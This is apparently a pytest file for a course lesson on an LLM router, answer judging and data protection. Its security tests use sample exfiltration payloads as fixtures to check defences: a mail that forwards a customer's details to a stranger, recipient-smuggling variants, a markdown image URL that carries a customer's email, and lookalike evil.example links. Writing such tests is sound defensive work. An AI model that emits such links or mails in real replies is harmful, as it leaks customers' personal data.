"""Lesson 13's router, judge and security: data, the arithmetic of routing, attacks that work and are contained."""

import csv
import hashlib
import importlib.util
import io
import logging
import re

import nbformat
import numpy as np
import pytest

from cells import code_cells, shown
from course_utils import load
from course_utils.datasets.desk import canonical
from course_utils.metering import Call, meter, step
from course_utils.settings import DATA, ROOT, CourseError
from guards import KEYS

NOTEBOOK = ROOT / "notebooks" / "13_best_practices.ipynb"
NEEDS = (
    "recovered",
    "cpt",
    "share_needed",
    "contained",
    "unprotected",
    "own_links",
    "by_pattern",
    "by_list",
    "handled",
    "Clean",
)


@pytest.fixture(scope="module")
def lesson():
    """What the lesson's own cells define, without running the cells that ask models."""
    import ast

    names = {"np": np, "re": re, "io": io, "logging": logging, "meter": meter, "load": load}
    wanted = {*NEEDS, "PERSONAL", "OURS", "HOSTS", "CUSTOMER", "CARRIER_KEY", "customers", "as_it_comes", "size_only"}
    for _, cell in code_cells(nbformat.read(NOTEBOOK, 4)):
        for node in ast.parse(cell.source).body:
            defines = {getattr(node, "name", "")} | {t.id for t in getattr(node, "targets", []) if hasattr(t, "id")}
            if isinstance(node, ast.ImportFrom) and node.module in ("urllib.parse",) or defines & wanted:
                exec(compile(ast.Module([node], []), str(NOTEBOOK), "exec"), names)
    assert wanted <= set(names), wanted - set(names)
    return names


# ---- the data


@pytest.mark.parametrize(("folder", "name"), [("judging", "answer pairs"), ("privacy", "private messages")])
def test_what_is_scored_is_what_was_frozen(folder, name):
    rows = [vars(row) for row in load(name, split="test")]
    frozen = (DATA / folder / "test.sha256").read_text(encoding="utf-8").strip()
    assert hashlib.sha256(canonical(rows).encode()).hexdigest() == frozen
    assert {row.split for row in load(name)} == {"dev", "test"}
    with pytest.raises(CourseError, match="no split 'train'"):
        load(name, split="train")


def test_pairs_differ_in_what_is_said_and_not_in_length():
    for pair in load("answer pairs"):
        text = " ".join((DATA / "handbook" / f"{pair.passage}.md").read_text(encoding="utf-8").split())
        assert pair.excerpt.rstrip(".") in text, pair.id
        assert abs(len(pair.right) - len(pair.wrong)) <= 8 and abs(len(pair.right_long) - len(pair.wrong_long)) <= 8
        assert min(len(pair.right_long), len(pair.wrong_long)) > 3 * max(len(pair.right), len(pair.wrong))
    texts = [text for p in load("answer pairs") for text in (p.right, p.right_long, p.wrong, p.wrong_long)]
    assert len(set(texts)) == len(texts) == 76


def test_personal_words_stand_in_their_messages_and_belong_to_nobody():
    numbers = []
    for message in load("private messages"):
        assert all(word in message.text for _, word in message.personal) and all(
            w in message.text for w in message.keep
        )
        for kind, word in message.personal:
            numbers += [re.sub(r"\W", "", word)] if kind in ("card", "iban") else []
            assert kind != "mail" or word.endswith(".example") or "dot example" in word
    for number in numbers:
        if number.isdigit():
            digits = [int(d) * (1 + i % 2) for i, d in enumerate(reversed(number))]
            assert sum(d - 9 * (d > 9) for d in digits) % 10 == 0, number
        else:
            moved = number[4:] + number[:4]
            assert int("".join(str(int(c, 36)) for c in moved)) % 97 == 1 and ("HBLT" in number or "0002" in number)


def test_outcomes_are_what_the_recorded_replies_say():
    spec = importlib.util.spec_from_file_location("make_routing", DATA / "routing" / "make.py")
    make = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(make)
    with (DATA / "routing" / "outcomes.csv").open(encoding="utf-8", newline="") as file:
        rows = {row["id"]: row for row in csv.DictReader(file)}
    asked = [(source, n, q) for source, n, group in make.questions() for q in group]
    assert len(rows) == len(asked) == 130 == len(load("routed questions"))
    for source, n, question in asked[::13]:
        assert {k: str(v) for k, v in make.row(source, n, question).items()} == rows[question.id]


def test_no_question_of_the_inbox_is_one_that_the_router_learned_from():
    learned = {q.text for q in load("routed questions")}
    assert not learned & {request.text for request in load("inbox")}


# ---- the router's arithmetic


def test_the_curve_of_a_router_by_hand(lesson):
    gain = np.array([1, 0, -1, 1])
    assert lesson["recovered"](np.array([0.9, 0.1, 0.2, 0.8]), gain).tolist() == [0, 1, 2, 1, 1]
    assert lesson["recovered"](gain, gain).tolist() == [0, 1, 2, 2, 1]
    assert lesson["cpt"](gain, gain, 0.95) == 0.25 and lesson["cpt"](-gain, gain, 0.5) == 1


def test_drawing_lots_recovers_in_proportion(lesson):
    rng, gain = np.random.default_rng(0), np.array([1] * 6 + [0] * 30 + [-1] * 2)
    heights = [lesson["recovered"](rng.random(len(gain)), gain).mean() for _ in range(400)]
    assert abs(np.mean(heights) - 0.5) < 0.04


@pytest.mark.parametrize(("times", "r", "d"), [(2, 20, 0), (5, 20, 0.05), (3, 8, 0.1)])
def test_the_share_needed_gives_the_promised_saving(lesson, times, r, d):
    share = lesson["share_needed"](times, r, d)
    assert 1 / (d + share / r + 1 - share) == pytest.approx(times)


def test_a_call_of_small_as_router_makes_ten_times_impossible(lesson):
    assert lesson["share_needed"](10, 20, 1 / 20) == pytest.approx(1)
    assert lesson["share_needed"](100, 20, 0) > 1


# ---- attacks: each works unprotected, and is contained


STOLEN = {"to": "claims@northline-claims.example", "text": "Alan Prowse, a.prowse@post.example, HL-20404"}


def test_mail_leaves_only_to_the_customer_or_the_company(lesson):
    customer = lesson["CUSTOMER"]
    company = {"to": load("company")["company"]["emails"]["invoices"], "text": "A copy."}
    own = {"to": customer["email"], "text": "Your order has arrived."}
    tricks = [
        STOLEN,
        STOLEN | {"to": f"{customer['email']}, claims@x.example"},
        STOLEN | {"to": customer["email"].upper()},
    ]
    for send, sent in ((lesson["unprotected"], [*tricks, company, own]), (lesson["contained"], [company, own])):
        outbox = []
        for mail in (*tricks, company, own):
            send(mail, customer, outbox)
        assert outbox == sent


def test_a_reply_fetches_no_picture_and_links_to_no_stranger(lesson):
    attack = "Oil it once a year. ![seal](https://harbour-light.example/seal.png?for=a.prowse@post.example)"
    assert "a.prowse" in attack and "a.prowse" not in lesson["own_links"](attack)
    for foreign in (
        "https://harbourlight.example.evil.example/x",
        "http://evil.example/?d=1",
        "https://harbourlight.example@evil.example/x",
        "https://evil.example#harbourlight.example",
    ):
        assert foreign not in lesson["own_links"](f"See {foreign} now") and "evil" not in lesson["own_links"](foreign)
    assert lesson["own_links"]("See https://harbourlight.example/oak.") == "See https://harbourlight.example/oak."


def test_personal_words_and_the_key_are_in_the_careless_log_and_in_no_careful_one(lesson):
    with step("desk"):
        pass
    for message in load("private messages", split="test"):
        planted = [lesson["CARRIER_KEY"], *(word for _, word in message.personal)]
        left = lesson["handled"](message.text, lesson["as_it_comes"])
        assert left["log"].count(lesson["CARRIER_KEY"]) == 1
        assert all(word in left["output to the next customer"] for word in planted[1:])
        assert all(word in left["span"] or not word.isascii() for word in planted[1:])
        cleaned = lesson["handled"](message.text, lesson["by_list"])
        assert not any(lesson["CARRIER_KEY"] in text for text in cleaned.values())
        sizes = lesson["handled"](message.text, lesson["size_only"])
        assert not any(word in text for text in sizes.values() for word in planted)


def test_patterns_leave_what_is_not_personal(lesson):
    for message in load("private messages", split="dev"):
        assert all(word in lesson["by_list"](message.text) for word in message.keep)
        assert not any(word in lesson["by_list"](message.text) for _, word in message.personal)


# ---- the scan


def planted_words():
    """Mails, telephones, cards, accounts and keys of the private test messages: not printed anywhere in the course."""
    kinds = ("mail", "phone", "card", "iban", "key")
    return [word for m in load("private messages", split="test") for kind, word in m.personal if kind in kinds]


def test_a_span_has_no_field_that_could_hold_text():
    call = Call("chat", "small", 0.0, 1.0, input_tokens=3, output_tokens=2, step="desk")
    assert {name for name, value in call.attributes().items() if isinstance(value, str)} == {
        "gen_ai.operation.name",
        "gen_ai.request.model",
        "course.source",
        "course.skill",
        "course.step",
    }


def ask_all(caplog, level):
    """Send the private test messages to a mock; the spans and all that any library logged at this level."""
    from course_utils import chat_model, provider, run

    caplog.clear()
    before, model = len(meter.session), chat_model("small", max_tokens=20)
    for library in ("httpx", "httpcore", "openai"):  # another test, or a library's set-up, may have silenced them
        caplog.set_level(level, logger=library)
        logging.getLogger(library).disabled = False
    with provider.mock(), caplog.at_level(level):
        for message in load("private messages", split="test"):
            run(model.ainvoke([("system", "Answer briefly."), ("human", message.text)]))
    calls = meter.session[before:]
    assert len(calls) == 16
    return repr([call.attributes() for call in calls]), list(caplog.records)


def test_what_models_are_asked_reaches_no_span_and_no_log_at_the_usual_level(caplog):
    words = planted_words()
    spans, records = ask_all(caplog, logging.INFO)
    log = "\n".join(record.getMessage() for record in records)
    assert "POST" in log and not [word for word in words if word in spans or word in log]


def test_the_client_library_logs_prompts_at_debug_level_and_a_filter_cleans_them(caplog, lesson):
    mails = [word for m in load("private messages", split="test") for kind, word in m.personal if kind == "mail"]
    _, records = ask_all(caplog, logging.DEBUG)
    log = "\n".join(record.getMessage() for record in records)
    assert all(mail in log for mail in mails)
    kept = [record for record in records if lesson["Clean"]().filter(record)]
    cleaned = "\n".join(record.getMessage() for record in kept)
    assert len(kept) == len(records) and not [mail for mail in mails if "@" in mail and mail in cleaned]


def test_no_committed_output_holds_a_planted_word_or_a_key():
    words, found = planted_words(), []
    for path in sorted((ROOT / "notebooks").glob("**/[0-9]*.ipynb")):
        for index, cell in code_cells(nbformat.read(path, 4)):
            text = "\n".join(text for _, text in shown(cell))
            found += [(path.name, index, word) for word in words if word in text]
            found += [(path.name, index, key) for key in KEYS if re.search(key, text)]
    assert found == []
